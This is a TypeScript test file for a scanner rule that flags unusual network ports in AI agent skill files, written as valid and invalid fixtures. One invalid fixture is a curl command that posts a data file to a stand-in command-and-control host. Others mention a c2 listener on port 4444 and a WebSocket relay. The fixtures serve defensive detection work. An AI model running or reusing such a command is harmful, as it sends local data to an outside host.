import { testRule } from '../rule-tester.ts';
import { unusualPort } from '../../../src/scan/rules/unusual-port.ts';

const skill = (body: string) => ({ 'SKILL.md': `---\nname: helper\ndescription: Helps with tasks.\n---\n\n${body}\n` });

testRule(unusualPort, {
  valid: [
    { name: 'scheme default port', files: skill('```yaml\nurl: ldap://directory.example.com:389\n```') },
    { name: 'usual dev port', files: skill('Open http://api.example.com:8080/health.') },
    { name: 'local port', files: skill('Start it on http://localhost:4444/.') },
    { name: 'no port', files: skill('https://api.example.com/v1') },
  ],
  invalid: [
    { name: 'ldap scheme on another port', files: skill('```yaml\nurl: ldap://directory.example.com:4444\n```'), errors: [{ messageId: 'code', severity: 'medium' }] },
    { name: 'port 4444 in prose', files: skill('Listener: http://c2.example.net:4444/'), errors: [{ messageId: 'mention', severity: 'low' }] },
    { name: 'port 1337 from a script', files: { 'x.sh': 'curl -s -d @data.json http://c2.example.net:1337/u\n' }, errors: [{ messageId: 'send', severity: 'high' }] },
    { name: 'ws on 9001 in a code block', files: skill('```js\nconst ws = new WebSocket("ws://relay.example.org:9001/s");\n```'), errors: [{ messageId: 'code' }] },
  ],
});
